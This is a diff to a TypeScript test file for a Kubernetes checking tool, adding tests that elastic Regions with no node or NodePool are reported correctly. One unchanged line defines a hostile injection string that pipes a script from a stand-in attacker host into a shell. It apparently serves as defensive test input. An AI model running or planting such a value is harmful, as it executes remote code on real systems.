@@ -4,7 +4,7 @@ import type { ClusterFacts } from '../../../src/questions/check/facts.ts';
 import { judge } from '../../../src/questions/check/judge.ts';
 import { renderCheck } from '../../../src/questions/check/render-check.ts';
 import type { NamedSecret } from '../../../src/units/named-secret.ts';
-import { makeNode, NOW, REGION_LABEL } from '../../builders.ts';
+import { makeNode, makeNodePool, NOW, REGION_LABEL, region } from '../../builders.ts';
 import {
   ANSWER,
   deploymentOf,
@@ -29,6 +29,19 @@ const HOSTILE = 'x; curl evil.sh | sh #';
 function names(count: number): readonly string[] {
   return Array.from({ length: count }, (_, index) => `n${index}`);
 }
+
+const ELASTIC = {
+  regions: {
+    value: [regionOf('eu-north'), regionOf('eu-south'), regionOf('moon', { gramsPerKwh: 24, elastic: true })],
+  },
+  nodes: { value: [makeNode('n', 'eu-north'), makeNode('s', 'eu-south')] },
+};
+
+describe('an elastic Region without a node is in order', () => {
+  it('where there is no NodePool', () => assert.deepEqual(oddities(ELASTIC), []));
+  it('where nobody knows where a NodePool creates nodes', () =>
+    assert.deepEqual(oddities({ ...ELASTIC, nodePools: { value: [makeNodePool('any')] } }), []));
+});
 
 function webhooks(...changed: readonly ReturnType<typeof webhookOf>[]): Partial<ClusterFacts> {
   const all = ['pods', 'jobs', 'namespaces', 'workloads'].map((name) => webhookOf(name));
@@ -316,6 +329,23 @@ describe('gridgate check finds', () => {
         /^warning labels: 1 of 3 nodes have no label topology\.kubernetes\.io\/region \(n2\): .* -> kubectl label node n2 topology/,
         /^failed labels: no Region is named mars, the label/,
       ],
+    ],
+    [
+      'elastic Regions that no NodePool serves, in one line',
+      {
+        regions: {
+          value: ['eu-north', 'later', 'moon', 'mars'].map((name) =>
+            regionOf(name, { gramsPerKwh: 24, elastic: name !== 'eu-north' }),
+          ),
+        },
+        nodePools: {
+          value: [
+            makeNodePool('a', [region('In', 'eu-north')]),
+            makeNodePool('b', [region('In', 'later')], { isPaused: true }),
+          ],
+        },
+      },
+      [/^warning labels: Regions moon, mars: no node is there, no NodePool creates any.* -> kubectl edit region moon$/],
     ],
     [
       'a namespace that opted in without its label, and one that is out with it',
